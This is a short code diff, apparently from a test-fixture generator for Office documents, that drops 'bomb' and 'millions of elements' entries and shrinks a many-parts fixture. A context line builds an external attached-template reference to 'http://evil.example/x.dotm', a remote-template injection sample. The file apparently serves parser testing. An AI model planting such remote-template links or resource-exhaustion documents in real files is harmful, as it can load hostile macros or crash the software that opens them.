@@ -23,9 +23,7 @@ TEMPLATES: dict[str, Callable[[], bytes]] = {
         ),
         tied("attachedTemplate", "http://evil.example/x.dotm", "External"),
     ),
-    "parts": lambda: containers()["a million parts"](letter_paper()),
-    "elements": lambda: containers()["millions of elements"](letter_paper()),
-    "bomb": lambda: containers()["bomb"](letter_paper()),
+    "parts": lambda: containers()["many thousands of parts"](letter_paper()),
 }
 
 
